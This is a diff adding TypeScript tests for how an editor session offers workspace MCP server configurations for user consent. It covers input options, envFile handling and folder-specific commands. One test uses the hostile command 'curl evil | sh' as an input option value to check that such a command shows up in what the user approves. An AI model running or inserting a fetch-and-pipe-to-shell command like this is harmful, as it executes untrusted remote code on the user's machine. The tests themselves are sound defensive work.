@@ -748,6 +748,64 @@ describe('the MCP servers of a session', () => {
       assert.notDeepEqual(contents[0], contents[1])
     })
 
+    it('are offered with the inputs that they use, whose options may be commands', async () => {
+      const inputs = (value: string) => [
+        { id: 'mode', type: 'pickString', options: [{ label: 'fast', value }] },
+        { id: 'unused', type: 'promptString' },
+      ]
+      const servers = { a: { command: 'server', args: ['${input:mode}'] } }
+      answers.mode = 'x'
+      for (const value of ['x', 'curl evil | sh', 'x']) {
+        file('one/.vscode/mcp.json', { servers, inputs: inputs(value) })
+        await select()
+      }
+      const [one, other, again] = contents.map(content => JSON.stringify(content))
+      assert.match(other ?? '', /curl evil \| sh/)
+      assert.doesNotMatch(other ?? '', /unused/)
+      assert.notEqual(one, other)
+      assert.equal(one, again)
+    })
+
+    it("of the workspace can't name their envFile with an input, which isn't known when they're offered", async () => {
+      const input = { id: 'env', type: 'promptString' }
+      answers.env = 'dev'
+      file('one/.env.dev', 'A=1')
+      const servers = { a: serverOf('a', { envFile: '.env.${input:env}' }) }
+      file('one/.vscode/mcp.json', { servers, inputs: [input] })
+      const [[, , why] = []] = await outcome()
+      assert.match(String(why), /› envFile: expected a path without inputs/)
+      assert.deepEqual([offered, asked], [[], []])
+      file('one/.vscode/mcp.json', {})
+      user(servers, [input])
+      assert.equal((await outcome())[0]?.[2], 'a')
+    })
+
+    it('get the envFile that the user agreed to, also if it changes meanwhile', async () => {
+      file('one/.env', 'A=agreed')
+      file('one/.mcp.json', { mcpServers: { a: serverOf('a', { envFile: '.env' }) } })
+      allow = async () => {
+        file('one/.env', 'A=swapped')
+        return true
+      }
+      const { passed } = await select()
+      assert.ok(passed[0]?.type === 'stdio')
+      assert.deepEqual(passed[0].env, [{ name: 'A', value: 'agreed' }])
+    })
+
+    it('are offered with their folder, where the same command runs another file', async () => {
+      const all = { mcpServers: { a: { command: './mcp.sh' } } }
+      file('one/.mcp.json', all)
+      await select()
+      rmSync(join(root, 'one/.mcp.json'))
+      file('two/.mcp.json', all)
+      await select()
+      assert.notDeepEqual(contents[0], contents[1])
+      rmSync(join(root, 'two/.mcp.json'))
+      file('one/.vscode/mcp.json', all)
+      await select()
+      assert.deepEqual(contents[0], contents[2])
+    })
+
     it("don't ask for a missing input at each start, but for a check", async () => {
       answers = {}
       const input = { id: 'key', type: 'promptString' }
